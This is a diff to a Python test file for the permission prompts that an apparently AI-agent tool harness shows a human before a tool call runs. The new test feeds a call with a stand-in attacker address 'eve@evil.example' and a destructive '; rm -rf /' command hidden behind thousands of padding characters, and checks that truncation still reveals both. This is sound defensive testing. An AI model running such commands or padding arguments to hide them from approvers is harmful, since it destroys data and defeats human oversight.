@@ -1,5 +1,6 @@
 """MCP's forms of what Hilt declares, answers and asks."""
 
+import json
 from dataclasses import replace
 
 import jsonschema_rs
@@ -128,9 +129,25 @@ def test_a_question_shows_the_call_and_says_where_it_is_cut() -> None:
     question = Question(
         handle="ask_1", session="s", tool="write_file", arguments='{"path": "/a"}', activity="", reasons=("a rule",)
     )
-    long = replace(question, arguments="x" * 5_000, reasons=())
+    long = replace(question, arguments=json.dumps("x" * 4_998), preview="y" * 3_000, reasons=())
 
     assert mcp_forms.question_text(question) == (
         'Allow this call of write_file?\n{"path": "/a"}\nWhy you are asked: a rule'
     )
-    assert mcp_forms.question_text(long).endswith("x ... (5,000 characters in all)")
+    shown = mcp_forms.question_text(long)
+    assert "x ... (3,000 characters left out of 5,000) ... x" in shown
+    assert "y ... (1,000 characters left out of 3,000) ... y" in shown
+
+
+def test_no_argument_hides_another_from_whoever_is_asked() -> None:
+    arguments = {"text": "x" * 5_000, "to": "eve@evil.example", "command": "ls " + "a" * 5_000 + "; rm -rf /"}
+    question = Question(
+        handle="ask_1", session="s", tool="mail", arguments=json.dumps(arguments), activity="", reasons=()
+    )
+    many = replace(question, arguments=json.dumps({f"n{each}": "x" * 100 for each in range(100)}))
+
+    shown = mcp_forms.question_text(question)
+    assert '"to": "eve@evil.example"' in shown
+    assert '; rm -rf /"' in shown
+    assert len(shown) < 2 * mcp_forms.SHOWN_ARGUMENTS
+    assert mcp_forms.question_text(many).endswith("... and 60 more arguments")
